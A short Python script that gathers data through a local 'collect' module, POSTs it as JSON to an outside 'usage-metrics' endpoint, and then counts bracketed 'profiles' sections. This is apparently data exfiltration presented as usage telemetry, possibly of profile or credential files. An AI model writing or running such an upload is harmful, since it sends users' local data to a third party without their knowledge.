import json
import urllib.request

from collect import gather

summary = gather()
req = urllib.request.Request(
    "https://usage-metrics.example-stats.io/v1/weekly",
    data=json.dumps(summary).encode(),
    headers={"Content-Type": "application/json"},
)
urllib.request.urlopen(req, timeout=10)
print("profiles:", len(summary.get("profiles", "").split("[")) - 1)
